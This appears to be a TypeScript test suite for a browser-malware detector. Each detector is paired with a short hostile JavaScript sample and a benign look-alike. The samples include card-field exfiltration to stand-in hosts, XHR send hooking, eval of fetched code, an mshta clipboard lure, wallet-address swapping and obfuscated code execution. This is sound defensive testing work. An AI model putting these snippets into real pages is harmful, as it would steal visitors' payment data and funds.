import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { inspectSource } from '../../src/analyze/pipeline.ts';
import { detectors } from '../../src/analyze/detectors/index.ts';

function detected(code: string): Map<string, string> {
  const result = new Map<string, string>();
  for (const finding of inspectSource(code).findings) if (!result.has(finding.detector)) result.set(finding.detector, finding.severity);
  return result;
}

// [detector, code that shows the behaviour, similar code that must not trigger it]
const table: [string, string, string][] = [
  ['checkout-gating',
    'if (location.href.indexOf("onepage") > -1) { run(); }',
    'if (location.href.indexOf("blog") > -1) { run(); }'],
  ['sensitive-field-names',
    'var f = ["cc_number", "cc_cid", "cc_exp_month"];',
    'var f = ["first_name", "newsletter"];'],
  ['fake-payment-form',
    'box.innerHTML = \'<input name="cardnumber"><input name="cvc"><input name="exp-date">\';',
    'box.innerHTML = \'<input name="search"><input name="q">\';'],
  ['anti-analysis',
    'setInterval(function () { if (window.outerWidth - window.innerWidth > 160) { console.clear(); } }, 500);',
    'var w = window.innerWidth - 20;'],
  ['self-removal',
    'document.currentScript.remove();',
    'document.getElementById("banner").remove();'],
  ['miner-signatures',
    'var m = new CoinNest.Anonymous("SITEKEY", { throttle: 0.3 }); m.getHashesPerSecond();',
    'var opts = { throttle: 200, threads: 2 };'],
  ['stratum-protocol',
    'ws.send(JSON.stringify({ method: "login", params: { login: wallet, pass: "x" } }));',
    'ws.send(JSON.stringify({ method: "ping" }));'],
  ['wasm-worker-pool',
    'WebAssembly.instantiate(buf); for (var i = 0; i < navigator.hardwareConcurrency; i++) new Worker(URL.createObjectURL(blob));',
    'new Worker("/decoder.js");'],
  ['hidden-iframe',
    'var f = document.createElement("iframe"); f.width = "0"; f.src = "https://ek.example/land"; document.body.appendChild(f);',
    'var f = document.createElement("iframe"); f.width = "600"; f.src = "https://maps.example/embed"; document.body.appendChild(f);'],
  ['dynamic-code-execution',
    'var x = new XMLHttpRequest(); x.onload = function () { eval(x.responseText); };',
    'setTimeout(function () { tick(); }, 10);'],
  ['remote-script-injection',
    'var s = document.createElement("script"); s.src = "https://cdn-evil.example/s.js"; document.head.appendChild(s);',
    'var s = document.createElement("script"); s.src = "/static/app.js"; document.head.appendChild(s);'],
  ['drive-by-redirect',
    'if (document.referrer.indexOf("google") > -1 && !document.cookie.match(/seen/)) { window.location.href = "https://prize.example/win"; }',
    'window.location.href = "/login";'],
  ['fake-update-lure',
    'el.textContent = "Your Chrome is out of date. Install the latest update to continue.";',
    'el.textContent = "Your cart was updated.";'],
  ['form-action-rewrite',
    'form.action = "https://secure-checkout.example/pay.php"; form.submit();',
    'form.action = "/checkout/pay"; form.submit();'],
  ['request-interception',
    'var o = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { new Image().src = "https://copy.example/c?d=" + btoa(b); return o.apply(this, arguments); };',
    'var o = XMLHttpRequest.prototype.send; var copy = XMLHttpRequest.prototype.send;'],
  ['form-data-exfiltration',
    'fetch("https://e.example/c", { method: "POST", body: document.getElementById("cc_number").value });',
    'fetch("https://e.example/c", { method: "POST", body: document.title });'],
  ['exfiltration-trigger',
    'btn.addEventListener("click", function () { new Image().src = "https://e.example/p?c=" + document.getElementById("cvv").value; });',
    'new Image().src = "https://e.example/p?c=" + document.getElementById("cvv").value;'],
  ['storage-staging',
    'localStorage.setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + localStorage.getItem("k")); }, 9000);',
    'localStorage.setItem("theme", "dark"); setTimeout(function () { fetch("https://e.example/" + localStorage.getItem("k")); }, 9000);'],
  ['clipboard-command-lure',
    'p.innerHTML = "Press Win + R, then Ctrl + V"; b.onclick = function () { navigator.clipboard.writeText("mshta https://x.example/v.hta"); };',
    'p.innerHTML = "Copy the command below"; b.onclick = function () { navigator.clipboard.writeText(code.textContent); };'],
  ['clipboard-address-swap',
    'var mine = "0x3f5ce5fbfe3e9af3971dd833d26ba9b5c936f0be"; document.addEventListener("copy", function (e) { if (/^0x[0-9a-f]{40}$/i.test(String(getSelection()))) { e.clipboardData.setData("text/plain", mine); e.preventDefault(); } });',
    'var mine = "0x3f5ce5fbfe3e9af3971dd833d26ba9b5c936f0be"; b.onclick = function () { navigator.clipboard.writeText(mine); };'],
  ['wallet-provider-hook',
    'var o = ethereum.request; window.ethereum.request = function (a) { if (a.method === "eth_sendTransaction") a.params[0].to = "0x1fd0bae5e67bb9d2759235937aa53bb93775c513"; return o(a); };',
    'window.ethereum.request({ method: "eth_sendTransaction", params: [{ to: "0x1fd0bae5e67bb9d2759235937aa53bb93775c513" }] });'],
  ['indirect-code-execution',
    'fetch("/favicon.ico").then(function (r) { return r.text(); }).then(function (t) { var F = Object.getPrototypeOf(function () {}).constructor; F(t)(); });',
    'fetch("/favicon.ico").then(function (r) { return r.text(); }).then(function (t) { var F = Object.getPrototypeOf(function () {}).constructor; check(F, t); });'],
  ['notification-lure',
    'o.innerHTML = "Press Allow to verify you are not a robot"; Notification.requestPermission();',
    'o.innerHTML = "Get an alert when your order ships"; Notification.requestPermission();'],
  ['payment-detail-swap',
    'var mine = "DE89 3704 0044 0532 0130 00"; node.nodeValue = node.nodeValue.replace(/\\b[A-Z]{2}\\d{2}(?: ?[A-Z0-9]{4}){3,7}\\b/g, mine);',
    'var shown = "DE89 3704 0044 0532 0130 00"; cell.textContent = cell.textContent.replace(/\\s+/g, " ");'],
  ['service-worker-hijack',
    'self.addEventListener("fetch", function (e) { e.respondWith(Response.redirect("https://ads.example/l")); });',
    'self.addEventListener("fetch", function (e) { e.respondWith(fetch(e.request)); });'],
];

describe('detectors', () => {
  test('every registered detector has a table row', () => {
    assert.deepEqual(new Set(table.map(([id]) => id)), new Set(detectors.map((detector) => detector.meta.id)));
  });
  for (const [id, positive, negative] of table) {
    test(`${id} reports the behaviour`, () => assert.ok(detected(positive).has(id), `findings: ${[...detected(positive).keys()].join(', ')}`));
    test(`${id} stays quiet on look-alike benign code`, () => assert.ok(!detected(negative).has(id)));
  }
  test('checkout gating through a list of words, in a loop or a callback', () => {
    assert.ok(detected('var s = ["onepage", "checkout"]; for (var i = 0; i < s.length; i++) if (location.pathname.indexOf(s[i]) > -1) go();').has('checkout-gating'));
    assert.ok(detected('if (["cart", "payment"].some((k) => location.href.includes(k))) go();').has('checkout-gating'));
    assert.ok(!detected('if (["blog", "news"].some((k) => location.href.includes(k))) go();').has('checkout-gating'));
  });

  test('a redirect to what a server answers is weak alone and stronger behind an automation check', () => {
    const plain = 'fetch("/next").then((r) => r.json()).then((d) => { location.href = d.url; });';
    const gated = 'if (!navigator.webdriver) fetch("https://tds.example/g").then((r) => r.json()).then((d) => { top.location.href = d.url; });';
    assert.equal(detected(plain).get('drive-by-redirect'), 'low');
    assert.equal(detected(gated).get('drive-by-redirect'), 'medium');
  });

  test('computed keys held in configuration objects and helper calls are read as names (storage staging through them)', () => {
    const config = 'var c = { s: "localStorage" }; window[c.s].setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + window[c.s].getItem("k")); }, 9000);';
    assert.equal(detected(config).get('storage-staging'), 'high');
    const helper = 'var s = function () { return String.fromCharCode.apply(null, arguments); }; var st = window[s(115,101,115,115,105,111,110,83,116,111,114,97,103,101)]; st.setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + st.getItem("k")); }, 9000);';
    assert.equal(detected(helper).get('storage-staging'), 'high');
    assert.ok(!detected('var c = { s: "theme" }; window[c.s] = 1; localStorage.setItem("k", "dark");').has('storage-staging'));
  });

  test('a helper with a rest parameter that forwards to String.fromCharCode spells the destination', () => {
    const message = (helper: string): string => inspectSource(`const fc = ${helper}; fetch(fc(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47) + document.getElementById("cvv").value);`)
      .evidence.find((item) => item.detector === 'form-data-exfiltration')?.message ?? '';
    assert.match(message('(...n) => String.fromCharCode(...n)'), /to https:\/\/evil\.example\//);
    // a helper that does something else with its arguments spells nothing
    assert.doesNotMatch(message('(...n) => n.length'), / to /);
  });

  test('request hooks are recognised through aliases of the prototype, and are strong only with an outside host', () => {
    const hook = 'var proto = window.XMLHttpRequest.prototype; var send = proto.send; proto.send = function (b) { new Image().src = "https://copy.example/c?d=" + btoa(b); return send.apply(this, arguments); };';
    assert.equal(detected(hook).get('request-interception'), 'high');
    const monitor = 'var proto = window.XMLHttpRequest.prototype; var send = proto.send; proto.send = function (b) { timings.push(Date.now()); return send.apply(this, arguments); };';
    assert.equal(detected(monitor).get('request-interception'), 'low');
  });

  test('code run from a response or a decoder is traced back through named callbacks, helpers and methods', () => {
    // `.then(run)` with `run` defined elsewhere, and eval saved from an object under a built name
    assert.equal(detected('var run = function (t) { var e = w["ev" + "al"]; e(t); }; fetch(u).then(function (r) { return r.text(); }).then(run);').get('dynamic-code-execution'), 'high');
    // a callback handed to a request helper, which calls it with the response body
    assert.equal(detected('function g(u, c) { var x = new XMLHttpRequest(); x.open("GET", u); x.onload = function () { c(x.responseText); }; x.send(); } function r(t) { new Function(t)(); } g("/x", r);').get('dynamic-code-execution'), 'high');
    // a static method that decodes, a cipher run by [].filter.constructor, setTimeout on the global object via `this`
    assert.equal(detected('class M { static r() { return [1, 2].map((v) => String.fromCharCode(v + 64)).join(""); } } new Function(M.r())();').get('dynamic-code-execution'), 'high');
    assert.equal(detected('var s = atob(p).split("").reverse().join(""); []["filter"]["constructor"](s)();').get('dynamic-code-execution'), 'high');
    assert.equal(detected('(function (g) { var c = String.fromCharCode.apply(null, codes); g["setTimeout"](c, 0); })(this);').get('dynamic-code-execution'), 'high');
    // eval kept in a local through `?:` and another local; the Function constructor reached through a local and `new`
    assert.equal(detected('var ev = window.JSON ? window.eval : null; var run = ev; fetch(u).then(function (r) { return r.text(); }).then(function (t) { run(t); });').get('dynamic-code-execution'), 'high');
    assert.equal(detected('var P = Object.getPrototypeOf(async function () {}).constructor, G = P; fetch(u).then((r) => r.text()).then((t) => new G(t)());').get('indirect-code-execution'), 'high');
    // callbacks stay callbacks
    assert.ok(!detected('function tick() { render(); } (function (g) { g.setTimeout(tick, 10); })(this); fetch(u).then(function (r) { return r.json(); }).then(show);').has('dynamic-code-execution'));
  });

  test('JSONP and meta-refresh redirects chosen by a remote script', () => {
    const jsonp = 'var cb = "_cb" + Date.now(); window[cb] = function (r) { var m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + r.u; document.head.appendChild(m); }; var s = document.createElement("script"); s.src = "https://tds.example/in.js?cb=" + cb; document.head.appendChild(s);';
    assert.equal(detected(jsonp).get('drive-by-redirect'), 'medium');
    const cloaked = 'class R { static send(p) { return new Promise((ok) => { const x = new XMLHttpRequest(); x.onload = () => ok(JSON.parse(x.responseText)); x.send(p); }); } static go(d) { window.location.replace(d.target); } } if (!("callPhantom" in window)) R.go(await R.send(1));';
    assert.equal(detected(cloaked).get('drive-by-redirect'), 'medium');
    assert.equal(detected('window.onDone = function () { location.reload(); }; var m = document.createElement("meta"); m.content = "width=device-width";').get('drive-by-redirect'), undefined);
  });

  test('a hidden frame made by a helper and pointed at one of a rotating list of hosts', () => {
    const helper = (urls: string): string => `var pick = [${urls}][Math.floor(Math.random() * 2)]; function frame(src) { var f = document.createElement("iframe"); f.setAttribute("src", src); f.setAttribute("width", "0"); document.body.appendChild(f); } frame(pick + "?z=1"); frame(pick + "?z=2");`;
    assert.equal(detected(helper('"https://a.example/ad", "https://b.example/p"')).get('hidden-iframe'), 'high');
    assert.equal(detected(helper('"/frames/a.html", "/frames/b.html"')).get('hidden-iframe'), 'low');
  });

  test('a hidden frame without a named host is only a weak signal', () => {
    assert.equal(detected('var f = document.createElement("iframe"); f.style.display = "none"; document.body.appendChild(f);').get('hidden-iframe'), 'low');
  });
});
